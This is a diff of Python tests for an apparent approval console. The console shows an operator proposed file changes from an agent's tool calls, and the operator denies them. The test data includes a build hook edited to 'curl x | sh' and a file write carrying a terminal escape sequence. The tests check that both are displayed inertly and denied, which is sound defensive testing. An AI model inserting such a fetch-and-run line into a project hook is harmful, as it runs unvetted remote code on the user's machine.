@@ -8,6 +8,7 @@ import hashlib
 
 from support.daemon import in_background, wait_for, workspace
 from support.hook import hook_cli, hook_input
+from support.items import pending_item
 
 from console.tui.render.present import PLAIN, DetailOptions, render_request
 
@@ -41,7 +42,7 @@ def test_an_edit_of_a_protected_file_shows_its_diff_in_the_detail(daemon):
     change = item["proposed"]
     assert change["path"] == str(hook) and not change["new_file"]
     assert "-make lint\n" in change["diff"] and "+curl x | sh\n" in change["diff"]
-    shown = render_request(item, [], PLAIN, DetailOptions()).text.plain
+    shown = render_request(pending_item(item), [], PLAIN, DetailOptions()).text.plain
     assert "Proposed change" in shown and "+curl x | sh" in shown and "-make lint" in shown
     decide(daemon, item, "deny")
     assert answer()["permissionDecision"] == "deny"
@@ -53,7 +54,7 @@ def test_a_new_file_is_shown_whole_and_escaped(daemon):
     target = ws / ".env"
     item, answer = pending_for(daemon, ws, "Write", {"file_path": str(target), "content": "KEY=1\n\x1b[2J\n"})
     assert item["proposed"]["new_file"]
-    shown = render_request(item, [], PLAIN, DetailOptions()).text.plain
+    shown = render_request(pending_item(item), [], PLAIN, DetailOptions()).text.plain
     assert "+KEY=1" in shown
     assert "\x1b" not in shown and "\\e[2J" in shown  # inert: the escape is shown, not sent
     decide(daemon, item, "deny")
@@ -68,10 +69,10 @@ def test_a_long_diff_is_cut_and_counts_as_not_yet_seen(daemon):
         "Write",
         {"file_path": str(ws / ".env"), "content": "".join(f"L{i}\n" for i in range(300))},
     )
-    rendered = render_request(item, [], PLAIN, DetailOptions(max_lines=40))
+    rendered = render_request(pending_item(item), [], PLAIN, DetailOptions(max_lines=40))
     assert rendered.truncated  # the approval keys wait until the operator expands it
     assert "+L299" not in rendered.text.plain
-    full = render_request(item, [], PLAIN, DetailOptions(expanded=True))
+    full = render_request(pending_item(item), [], PLAIN, DetailOptions(expanded=True))
     assert "+L299" in full.text.plain
     decide(daemon, item, "deny")
     answer()
@@ -100,6 +101,6 @@ def test_content_that_is_not_what_the_digest_binds_is_not_shown(daemon):
     item = pending_in(daemon, ws)
     change = item["proposed"]
     assert change["diff"] == "" and "does not match" in change["note"]
-    assert "EVIL" not in render_request(item, [], PLAIN, DetailOptions()).text.plain
+    assert "EVIL" not in render_request(pending_item(item), [], PLAIN, DetailOptions()).text.plain
     decide(daemon, item, "deny")
     assert answer()["verdict"] == "deny"
